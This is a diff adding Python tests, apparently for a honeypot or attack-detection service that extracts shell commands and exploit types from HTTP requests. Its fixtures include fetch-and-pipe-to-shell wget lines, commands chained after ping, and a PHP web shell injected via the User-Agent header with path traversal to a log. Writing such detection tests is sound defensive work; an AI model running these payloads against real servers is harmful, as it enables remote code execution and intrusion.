@@ -84,6 +84,15 @@ def test_a_command_in_any_language_wherever_it_stands(value: str) -> None:
     assert found(ask("GET /never/seen", headers=f"Cookie: a=b; c={quote(value, safe='')}")), "cookie"
 
 
+def test_a_whole_command_line_stays_whole() -> None:
+    for line in (
+        f"(wget -qO- http://198.51.100.7/x || {WGET}) | sh",
+        f"cd /tmp; {WGET}; sh x",
+        f"ping -c 1 192.0.2.9; {WGET}",
+    ):
+        assert commands(ask(f"GET /a?anything={quote(line, safe='')}")) == [line]
+
+
 def test_base64_and_hexadecimal_around_a_command() -> None:
     inner = f"x;{WGET};".encode()
     for wrapped in (base64.b64encode(inner).decode(), inner.hex()):
@@ -200,6 +209,12 @@ def test_what_is_uploaded_does_what_it_says() -> None:
     memory = Memory()
     ask("PUT /x/y.jsp", b'<% out.print("put 1"); %>', memory=memory)
     assert answer(ask("GET /x/y.jsp", memory=memory)) == b"put 1"
+
+
+def test_a_script_runs_what_the_same_request_gives_it() -> None:
+    talk = ask("GET /a.php?page=../log&q=uptime", headers="User-Agent: <?php passthru($_GET['q']);?>")
+    assert (exploits(talk), commands(talk)) == (["php-injection"], ["uptime"])
+    assert b"load average" in answer(talk)
 
 
 def test_what_a_command_writes_can_be_asked_for() -> None:
